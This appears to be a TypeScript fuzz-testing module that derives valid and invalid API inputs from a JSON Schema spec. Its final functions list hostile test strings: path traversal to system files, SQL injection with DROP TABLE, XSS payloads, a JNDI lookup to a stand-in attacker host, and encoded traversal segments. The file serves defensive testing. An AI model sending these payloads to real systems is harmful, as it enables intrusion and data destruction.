/**
 * JSON Schema (the 2020-12 subset the bundle uses) → fast-check arbitraries: valid values, biased
 * toward the spec's own example values (so requests reach seeded resources and domain logic), and
 * known-invalid values per keyword (wrong type, out of range, oversized, not in enum, pattern or
 * format mismatch, too few/many items). Nothing here knows any operation: it reads schemas only.
 */
import fc from 'fast-check';
import { conforms } from './fuzz-oracle.js';
import { deref, doc, operations } from './spec.js';

export type Schema = Record<string, unknown>;
type Primitive = string | number | boolean;

const isObject = (value: unknown): value is Record<string, unknown> => typeof value === 'object' && value !== null && !Array.isArray(value);

/** The schema with `$ref`s at its root resolved (an absent schema is the empty schema). */
export function resolve(schema: unknown): Schema {
  return schema === undefined ? {} : deref<Schema>(schema);
}

export function typesOf(schema: Schema): string[] | undefined {
  const type = schema['type'];
  if (typeof type === 'string') return [type];
  if (Array.isArray(type)) return type.filter((t): t is string => typeof t === 'string');
  if (isObject(schema['properties'])) return ['object'];
  if (schema['items'] !== undefined) return ['array'];
  return undefined;
}

const num = (schema: Schema, key: string): number | undefined => (typeof schema[key] === 'number' ? schema[key] : undefined);
const codePoints = (text: string): number => [...text].length;
/** No lone surrogate halves (they cannot survive UTF-8 transport). */
const wellFormed = (text: string): boolean => !/\p{Cs}/u.test(text);

// ── Example values harvested from the spec ──────────────────────────────────────────────────

/** Every primitive example value in the spec, by the name of the field or parameter that holds it. */
const examplesByName = new Map<string, Set<Primitive>>();
/** Every id-like example value (`apt_lina_0603`), by prefix. */
const idsByPrefix = new Map<string, Set<string>>();
const ID = /^([a-z]{2,5})_[A-Za-z0-9_]+$/;

function add(name: string, value: unknown): void {
  if (typeof value !== 'string' && typeof value !== 'number' && typeof value !== 'boolean') return;
  let set = examplesByName.get(name);
  if (!set) examplesByName.set(name, (set = new Set()));
  set.add(value);
  const prefix = typeof value === 'string' ? ID.exec(value)?.[1] : undefined;
  if (prefix !== undefined && typeof value === 'string') {
    let ids = idsByPrefix.get(prefix);
    if (!ids) idsByPrefix.set(prefix, (ids = new Set()));
    ids.add(value);
  }
}

/** Collects the named primitives inside an example value. */
function collect(value: unknown): void {
  if (Array.isArray(value)) value.forEach(collect);
  else if (isObject(value)) {
    for (const [key, inner] of Object.entries(value)) {
      add(key, inner);
      collect(inner);
    }
  }
}

function examplesOf(value: unknown): unknown[] {
  if (Array.isArray(value)) return value;
  if (isObject(value)) return Object.values(value).map((example) => deref<Schema>(example)['value']);
  return [];
}

/** Walks the document; `name` is the property whose schema is being walked, if any. */
function walk(node: unknown, name: string | undefined): void {
  if (Array.isArray(node)) {
    for (const inner of node) walk(inner, undefined);
    return;
  }
  if (!isObject(node)) return;
  for (const [key, value] of Object.entries(node)) {
    if (key === 'example' || key === 'examples') {
      for (const example of key === 'example' ? [value] : examplesOf(value)) {
        if (name !== undefined) add(name, example);
        collect(example);
      }
    } else if (key === 'properties' && isObject(value)) {
      for (const [property, schema] of Object.entries(value)) walk(schema, property);
    } else {
      walk(value, undefined);
    }
  }
}
walk(doc, undefined);
for (const op of operations) for (const p of op.parameters) if (p.example !== undefined) add(p.name, p.example);

/**
 * The spec's example values a field of this name may take: the examples given for any field or
 * parameter of that name, plus every id of the same prefix as those examples (a path parameter
 * `appointmentId` learns every `apt_…` the spec mentions).
 */
export function exampleValuesFor(name: string): Primitive[] {
  const direct = [...(examplesByName.get(name) ?? [])];
  const prefixes = new Set(direct.flatMap((v) => (typeof v === 'string' ? (ID.exec(v)?.[1] ?? []) : [])));
  const ids = [...prefixes].flatMap((prefix) => [...(idsByPrefix.get(prefix) ?? [])]);
  return [...new Set([...direct, ...ids])].sort((a, b) => String(a).localeCompare(String(b)));
}

// ── Valid values ─────────────────────────────────────────────────────────────────────────────

export interface ValueOptions {
  /** Values known to be good at this position (examples); used often, when they conform. */
  hints?: readonly unknown[];
  /** Every optional property present and every array non-empty (so any field can be mutated). */
  full?: boolean;
  /** Strings that survive as an HTTP header value (visible ASCII, no surrounding space). */
  headerSafe?: boolean;
  depth?: number;
}

const WORLD_START = Date.UTC(2026, 5, 1);
const DAY = 86_400_000;
const pad = (n: number, width = 2): string => String(n).padStart(width, '0');

const dateArb: fc.Arbitrary<string> = fc.oneof(
  // Near the seeded world's two weeks (where schedules exist) …
  fc.integer({ min: -3, max: 20 }).map((days) => new Date(WORLD_START + days * DAY).toISOString().slice(0, 10)),
  // … and anywhere.
  fc.date({ min: new Date(Date.UTC(1970, 0, 1)), max: new Date(Date.UTC(2099, 11, 31)), noInvalidDate: true }).map((d) => d.toISOString().slice(0, 10)),
);

const dateTimeArb: fc.Arbitrary<string> = fc
  .tuple(dateArb, fc.integer({ min: 0, max: 23 }), fc.integer({ min: 0, max: 59 }), fc.integer({ min: 0, max: 59 }), fc.constantFrom('+08:00', 'Z', '+00:00', '-05:30'))
  .map(([date, h, m, s, offset]) => `${date}T${pad(h)}:${pad(m)}:${pad(s)}${offset}`);

function stringArb(schema: Schema, options: ValueOptions): fc.Arbitrary<string> {
  const minLength = num(schema, 'minLength') ?? 0;
  const maxLength = num(schema, 'maxLength');
  const fits = (text: string): boolean => codePoints(text) >= minLength && (maxLength === undefined || codePoints(text) <= maxLength);
  const format = schema['format'];
  if (format === 'date') return dateArb;
  if (format === 'date-time') return dateTimeArb;
  if (format === 'uri-reference') return fc.constantFrom('/v1/organizations/org_x', 'https://example.com/a?b=1', 'relative/path', '#fragment');
  if (format === 'uri') {
    const pattern = typeof schema['pattern'] === 'string' ? new RegExp(schema['pattern'], 'u') : undefined;
    return fc.webUrl({ validSchemes: ['https'] }).filter((url) => (pattern === undefined || pattern.test(url)) && fits(url));
  }
  if (typeof schema['pattern'] === 'string') {
    return fc.stringMatching(new RegExp(schema['pattern'], 'u'), maxLength === undefined ? {} : { maxLength }).filter(fits);
  }
  const upper = Math.min(maxLength ?? minLength + 24, minLength + 24);
  if (options.headerSafe) {
    return fc.string({ minLength: Math.max(minLength, 1), maxLength: Math.max(upper, 1) }).filter((s) => s.trim() === s && fits(s));
  }
  return fc
    .oneof(
      { weight: 3, arbitrary: fc.string({ minLength, maxLength: upper }) },
      { weight: 1, arbitrary: fc.string({ minLength, maxLength: upper, unit: 'binary' }) },
    )
    .filter((s) => wellFormed(s) && fits(s));
}

const INT32 = 2 ** 31 - 1;

function integerArb(schema: Schema): fc.Arbitrary<number> {
  const min = num(schema, 'minimum');
  const max = num(schema, 'maximum');
  const lo = Math.max(min ?? -1_000_000, -INT32);
  const hi = Math.min(max ?? 1_000_000, INT32);
  const bounds = [min, max].filter((b): b is number => b !== undefined);
  const inner = lo <= hi ? [fc.integer({ min: lo, max: hi })] : [];
  const arbs = [...inner, ...(bounds.length > 0 ? [fc.constantFrom(...bounds)] : [])];
  return arbs.length === 1 ? (arbs[0] as fc.Arbitrary<number>) : fc.oneof(...arbs);
}

function ofType(type: string, schema: Schema, options: ValueOptions): fc.Arbitrary<unknown> {
  const depth = options.depth ?? 0;
  switch (type) {
    case 'null':
      return fc.constant(null);
    case 'boolean':
      return fc.boolean();
    case 'integer':
      return integerArb(schema);
    case 'number':
      return fc.double({ min: num(schema, 'minimum') ?? -1e9, max: num(schema, 'maximum') ?? 1e9, noNaN: true, noDefaultInfinity: true });
    case 'string':
      return stringArb(schema, options);
    case 'array': {
      const minItems = Math.max(num(schema, 'minItems') ?? 0, options.full ? 1 : 0);
      const maxItems = Math.max(minItems, Math.min(num(schema, 'maxItems') ?? minItems + 3, minItems + 3));
      const itemHints = (options.hints ?? []).flatMap((hint) => (Array.isArray(hint) ? hint : []));
      const item = validValue(schema['items'], { ...options, hints: itemHints, depth: depth + 1 });
      return schema['uniqueItems'] === true
        ? fc.uniqueArray(item, { minLength: minItems, maxLength: maxItems, selector: (value) => JSON.stringify(value) })
        : fc.array(item, { minLength: minItems, maxLength: maxItems });
    }
    case 'object': {
      const properties = isObject(schema['properties']) ? schema['properties'] : {};
      const required = Array.isArray(schema['required']) ? (schema['required'] as string[]) : [];
      const model: Record<string, fc.Arbitrary<unknown>> = {};
      for (const [name, sub] of Object.entries(properties)) {
        const hints = [
          ...(options.hints ?? []).flatMap((hint) => (isObject(hint) && hint[name] !== undefined ? [hint[name]] : [])),
          ...exampleValuesFor(name),
        ];
        model[name] = validValue(sub, { ...options, hints, depth: depth + 1 });
      }
      const keys = Object.keys(model);
      return fc.record(model, { requiredKeys: options.full ? keys : keys.filter((k) => required.includes(k)), noNullPrototype: true });
    }
    default:
      return fc.constant(null);
  }
}

/** A valid value of the schema; `hints` that conform are drawn often. */
export function validValue(schemaIn: unknown, options: ValueOptions = {}): fc.Arbitrary<unknown> {
  const schema = resolve(schemaIn);
  let generated: fc.Arbitrary<unknown>;
  if (Array.isArray(schema['enum'])) {
    generated = fc.constantFrom(...(schema['enum'] as unknown[]));
  } else if (Array.isArray(schema['oneOf']) || Array.isArray(schema['anyOf'])) {
    const branches = ((schema['oneOf'] ?? schema['anyOf']) as unknown[]).map((branch) => validValue(branch, options)).map((arb) => arb.filter((v) => conforms(schemaIn, v)));
    generated = options.full && branches[0] ? branches[0] : fc.oneof(...branches);
  } else {
    let types = typesOf(schema) ?? ['string'];
    if (options.full && types.some((t) => t !== 'null')) types = types.filter((t) => t !== 'null');
    const arbs = types.map((type) => ofType(type, schema, options));
    generated = arbs.length === 1 ? (arbs[0] as fc.Arbitrary<unknown>) : fc.oneof(...arbs);
  }
  const composite = isObject(schema['properties']) || schema['items'] !== undefined;
  const hints = composite ? [] : [...new Set(options.hints ?? [])].filter((hint) => conforms(schemaIn, hint));
  if (hints.length === 0) return generated;
  return fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...hints) }, { weight: 2, arbitrary: generated });
}

// ── Known-invalid values ─────────────────────────────────────────────────────────────────────

export type InvalidKind =
  | 'wrong-type'
  | 'below-minimum'
  | 'above-maximum'
  | 'too-short'
  | 'too-long'
  | 'not-in-enum'
  | 'pattern-mismatch'
  | 'bad-format'
  | 'too-few-items'
  | 'too-many-items';

export interface InvalidValue {
  kind: InvalidKind;
  arb: fc.Arbitrary<unknown>;
}

/**
 * How a value reaches the platform: `json` (any JSON value), `text` (form fields, path and header
 * values: always strings), or `query` (strings the platform coerces by the parameter's type;
 * a repeated parameter arrives as an array).
 */
export type Carrier = 'json' | 'text' | 'query';

function jsonTypeOf(value: unknown): string {
  if (value === null) return 'null';
  if (Array.isArray(value)) return 'array';
  if (typeof value === 'number') return Number.isInteger(value) ? 'integer' : 'number';
  return typeof value;
}

function allowsType(types: string[], value: unknown): boolean {
  const type = jsonTypeOf(value);
  return types.includes(type) || (type === 'integer' && types.includes('number'));
}

const WRONG_JSON: unknown[] = [42, 1.5, -7, true, false, 'text', '', null, [], ['x'], {}, { a: 1 }];
/** Query texts that are not an integer / number / boolean once the platform coerces them. */
const NOT_INTEGER = ['abc', '1.5', '1e3', '', ' 1', '0x10', '+1', 'NaN', 'Infinity', '--1', '１'];
const NOT_NUMBER = ['abc', '', '1,5', 'NaN', 'Infinity', '0x', '--1'];
const NOT_BOOLEAN = ['yes', 'no', '1', '0', 'TRUE', 'False', '', 'on'];
const BAD_DATES = ['2026-02-30', '2026-13-01', '2026-6-1', '20260601', '2026/06/01', 'tomorrow', '2026-06-01T08:00:00+08:00', '2026-00-10'];
const BAD_DATE_TIMES = ['2026-06-01T25:00:00+08:00', '2026-06-01T08:00:00', '2026-06-01', '2026-06-01T08:00:00+8:00', 'yesterday', '2026-02-30T08:00:00+08:00', '2026-06-01T08:60:00Z'];

/** Strings of `length` code points, of a few shapes. */
const longString = (min: number, max: number): fc.Arbitrary<string> =>
  fc.oneof(
    fc.integer({ min, max }).map((n) => 'x'.repeat(n)),
    fc.integer({ min, max }).map((n) => '号'.repeat(n)),
    fc.string({ minLength: min, maxLength: max }),
    fc.constant('A'.repeat(Math.max(min, 10_000))),
  );

/**
 * Values that break exactly the schema's own keywords, each of a named kind. Every candidate is
 * checked against the oracle, so a value that happens to be valid is never claimed invalid.
 */
export function invalidValues(schemaIn: unknown, carrier: Carrier): InvalidValue[] {
  const schema = resolve(schemaIn);
  const types = typesOf(schema);
  const out: InvalidValue[] = [];
  const push = (kind: InvalidKind, arb: fc.Arbitrary<unknown>, raw = false): void => {
    // `raw` values are what the platform receives after coercion; others are checked as sent.
    out.push({ kind, arb: raw ? arb : arb.filter((v) => !conforms(schemaIn, v)) });
  };
  const isString = types?.includes('string') ?? false;
  const isInteger = types?.includes('integer') ?? false;
  const isNumber = isInteger || (types?.includes('number') ?? false);

  // Wrong type.
  if (types) {
    if (carrier === 'json') {
      const wrong = WRONG_JSON.filter((value) => !allowsType(types, value));
      if (wrong.length > 0) push('wrong-type', fc.constantFrom(...wrong));
    } else if (carrier === 'query' && !types.includes('array')) {
      // A repeated parameter arrives as an array; texts that do not coerce stay strings.
      const repeated = validValue(schemaIn).chain((a) => validValue(schemaIn).map((b) => [a, b]));
      const texts = isInteger ? NOT_INTEGER : isNumber ? NOT_NUMBER : types.includes('boolean') ? NOT_BOOLEAN : [];
      push('wrong-type', texts.length > 0 ? fc.oneof(fc.constantFrom(...texts), repeated) : repeated, true);
    }
  }
  // Out of range.
  if (isNumber && carrier !== 'text') {
    const minimum = num(schema, 'minimum');
    const maximum = num(schema, 'maximum');
    if (minimum !== undefined) push('below-minimum', fc.constantFrom(minimum - 1, minimum - 1000, -(10 ** 9), -(10 ** 15)).filter((v) => v < minimum));
    if (maximum !== undefined) {
      const beyond = fc.constantFrom<unknown>(maximum + 1, 10 ** 9, 10 ** 15, Number.MAX_SAFE_INTEGER).filter((v) => typeof v === 'number' && v > maximum);
      // In a query, digits beyond any safe integer too.
      push('above-maximum', carrier === 'query' ? fc.oneof(beyond, fc.constant('99999999999999999999')) : beyond);
    }
  }
  if (isString) {
    const minLength = num(schema, 'minLength');
    const maxLength = num(schema, 'maxLength');
    if (minLength !== undefined && minLength > 0) push('too-short', fc.integer({ min: 0, max: minLength - 1 }).map((n) => 'x'.repeat(n)));
    if (maxLength !== undefined) push('too-long', longString(maxLength + 1, maxLength * 4 + 8));
    const enumValues = Array.isArray(schema['enum']) ? (schema['enum'] as unknown[]) : undefined;
    if (enumValues) {
      const first = String(enumValues[0] ?? 'value');
      push('not-in-enum', fc.constantFrom(`${first}_x`, first.toUpperCase(), ` ${first}`, `${first} `, 'NOT_IN_ENUM', first.slice(0, -1), '*'));
    }
    if (typeof schema['pattern'] === 'string') {
      const valid = validValue(schemaIn);
      push(
        'pattern-mismatch',
        fc.oneof(
          valid.map((v) => `${String(v)}x`),
          valid.map((v) => String(v).slice(0, -1)),
          valid.map((v) => `${String(v)}\n`),
          valid.map((v) => ` ${String(v)}`),
          valid.map((v) => String(v).toUpperCase()),
          fc.string({ minLength: 1, maxLength: 12 }),
        ),
      );
    }
    if (schema['format'] === 'date') push('bad-format', fc.constantFrom(...BAD_DATES));
    if (schema['format'] === 'date-time') push('bad-format', fc.constantFrom(...BAD_DATE_TIMES));
  }
  if (types?.includes('array') && carrier === 'json') {
    const minItems = num(schema, 'minItems');
    const maxItems = num(schema, 'maxItems');
    if (minItems !== undefined && minItems > 0) push('too-few-items', fc.constant([]));
    if (maxItems !== undefined) {
      const item = validValue(schema['items'], { full: true });
      push('too-many-items', fc.array(item, { minLength: maxItems + 1, maxLength: maxItems + 3 }));
    }
  }
  // Texts only carry strings: drop anything else.
  if (carrier === 'text') return out.map(({ kind, arb }) => ({ kind, arb: arb.filter((v) => typeof v === 'string') }));
  return out;
}

/** Names no schema declares: plain, case variants of declared names, and prototype keys. */
export function unknownNames(declared: readonly string[]): fc.Arbitrary<string> {
  const variants = declared.map((name) => name.charAt(0).toUpperCase() + name.slice(1)).filter((name) => !declared.includes(name));
  return fc
    .oneof(
      fc.constantFrom('unknownField', 'extra', '', '__proto__', 'constructor', 'toString', 'hasOwnProperty', ...variants),
      fc.string({ minLength: 1, maxLength: 12 }).map((s) => `x_${s}`),
    )
    .filter((name) => !declared.includes(name));
}

/** Values nobody would ever issue as an id: traversal, injection, control characters, oversized. */
export function hostileStrings(example: string | undefined): string[] {
  const real = example ?? 'id_123';
  return [
    '../../etc/passwd',
    '..\\..\\windows\\win.ini',
    `${real}/../${real}`,
    "' OR 1=1 --",
    '" OR ""="',
    `${real}'; DROP TABLE appointments; --`,
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    '\u0000',
    `${real}\u0000`,
    '${jndi:ldap://evil.example/a}',
    '{{7*7}}',
    '__proto__',
    'constructor',
    'hasOwnProperty',
    'toString',
    '\u202e\u0000\ud83d\ude00',
    real.toUpperCase(),
    `${real} `,
    ` ${real}`,
    `${real}*`,
    '%',
    'x'.repeat(10_000),
    '号'.repeat(65),
  ];
}

/**
 * Path segments put on the wire as they are (not percent-encoded again): encoded traversal,
 * double encoding, overlong UTF-8, a bare NUL escape.
 */
export function hostileRawSegments(example: string | undefined): string[] {
  const real = example ?? 'id_123';
  return ['..%2f..%2fetc%2fpasswd', '%2e%2e%2f%2e%2e%2fetc%2fpasswd', '%252e%252e%252f', '%c0%ae%c0%ae%c0%af', '%00', `${real}%00`, `${real}%2f..%2f..`, '%', '%zz'];
}
